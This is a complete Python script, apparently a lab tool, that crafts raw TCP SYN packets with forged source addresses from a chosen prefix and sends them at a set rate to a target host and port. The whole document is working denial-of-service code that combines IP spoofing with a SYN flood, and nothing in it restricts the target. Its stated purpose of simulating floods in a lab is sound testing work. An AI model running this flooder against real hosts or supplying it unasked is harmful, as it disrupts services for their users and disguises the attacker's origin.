"""Sends TCP SYNs to one host and port with forged sources, as a flood from elsewhere does (hping3 --rand-source would leave the lab's ranges).

usage: forged_syns.py PREFIX_OF_SOURCES TARGET PORT COUNT PER_SECOND
"""

import ipaddress
import random
import socket
import struct
import sys
import time


def checksum(data: bytes) -> int:
    """RFC 1071."""
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def syn(source: bytes, target: bytes, port: int) -> bytes:
    """An IPv4 packet with a SYN; the kernel fills in the IP checksum and length of a raw socket."""
    tcp = struct.pack("!HHIIBBHHH", random.randrange(1024, 65535), port, random.getrandbits(32), 0, 5 << 4, 2, 64240, 0, 0)
    pseudo = source + target + struct.pack("!BBH", 0, 6, len(tcp))
    tcp = tcp[:16] + struct.pack("!H", checksum(pseudo + tcp)) + tcp[18:]
    return struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), random.getrandbits(16), 0, 64, 6, 0, source, target) + tcp


def main(prefix: str, target: str, port: int, count: int, per_second: int) -> None:
    sources = ipaddress.ip_network(prefix)
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as raw:
        for _ in range(count):
            source = sources[random.randrange(1, sources.num_addresses - 1)].packed
            raw.sendto(syn(source, socket.inet_aton(target), port), (target, 0))
            time.sleep(1 / per_second)


main(sys.argv[1], sys.argv[2], *map(int, sys.argv[3:6]))
